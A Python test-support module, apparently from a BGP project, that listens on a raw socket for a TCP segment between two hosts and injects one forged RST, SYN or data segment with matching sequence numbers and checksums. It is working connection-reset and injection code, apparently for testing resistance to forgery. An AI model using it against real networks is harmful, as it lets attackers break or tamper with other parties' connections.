"""Breaks a TCP connection of others by a forged segment with the right numbers; run as a program.

python -m tests.support.forger INTERFACE FROM TO TTL rst|syn|data

It stands on the way between the two ends, listens for the next segment with data, IPv4 or IPv6, and
sends the RST, SYN or data that its sender might send behind it, once. The data are no BGP.
"""

from __future__ import annotations

import socket
import struct
import sys
from ipaddress import ip_address

_ETHERNET, _ALL = 14, 3
_KINDS = {"rst": (0x14, b""), "syn": (0x02, b""), "data": (0x18, b"no BGP, as you will see ")}
"""The flags, and what is said."""


def main(interface: str, source: str, target: str, ttl: int, kind: str) -> None:
    """Wait for a segment and forge the next."""
    ends = ip_address(source).packed + ip_address(target).packed
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ALL)) as tap:
        tap.bind((interface, 0))
        print("listening", flush=True)  # noqa: T201 - whoever started it waits for this
        while True:
            frame = tap.recv(65535)
            packet = frame[_ETHERNET:]
            is_ipv6 = len(ends) == 32
            start, at = (40, 8) if is_ipv6 else ((packet[0] & 15) * 4, 12)
            protocol = packet[6] if is_ipv6 else packet[9]
            if protocol != socket.IPPROTO_TCP or packet[at : at + len(ends)] != ends:
                continue
            size = struct.unpack_from("!H", packet, 4 if is_ipv6 else 2)[0]
            segment = packet[start : size + (40 if is_ipv6 else 0)]
            data = len(segment) - (segment[12] >> 4) * 4
            if data <= 0:
                continue
            tap.send(frame[:_ETHERNET] + _forged(packet, segment, data, ends, ttl, kind))
            return


def _forged(packet: bytes, segment: bytes, data: int, ends: bytes, ttl: int, kind: str) -> bytes:
    ports, seq, ack = segment[:4], *struct.unpack_from("!II", segment, 4)
    flags, said = _KINDS[kind]
    seq = (seq + data) & 0xFFFFFFFF
    tcp = ports + struct.pack("!IIBBHHH", seq, ack, 0x50, flags, 1024, 0, 0) + said
    check = _sum(ends + struct.pack("!II", len(tcp), socket.IPPROTO_TCP) + tcp)
    tcp = tcp[:16] + struct.pack("!H", check) + tcp[18:]
    if len(ends) == 32:
        head = packet[:4] + struct.pack("!HBB", len(tcp), socket.IPPROTO_TCP, ttl) + ends
        return head + tcp
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, ttl, 6, 0) + ends
    return head[:10] + struct.pack("!H", _sum(head)) + head[12:] + tcp


def _sum(octets: bytes) -> int:
    """RFC 1071."""
    total: int = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), sys.argv[5])
